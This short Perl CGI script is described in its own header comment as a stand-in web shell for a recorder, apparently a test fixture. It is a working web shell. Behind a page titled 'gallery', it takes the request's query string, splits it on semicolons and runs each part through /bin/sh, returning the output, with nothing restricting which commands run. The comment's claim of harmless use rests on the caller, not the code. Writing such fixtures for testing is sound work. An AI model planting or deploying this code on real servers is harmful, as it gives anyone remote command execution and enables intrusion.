# The stand-in of a web shell: a page that hands its query to a shell. The recorder sends it only
# listings of its own scratch folder.
use strict;
use warnings;

my $command = $ENV{QUERY_STRING} // '';
print "<html><body><h1>gallery</h1><pre>\n";
for my $part (split /;/, $command) {
    open(my $shell, '-|', '/bin/sh', '-c', "$part 2>&1") or next;
    while (<$shell>) {
        s/</&lt;/g;
        print;
    }
    close $shell;
}
print "</pre></body></html>\n";
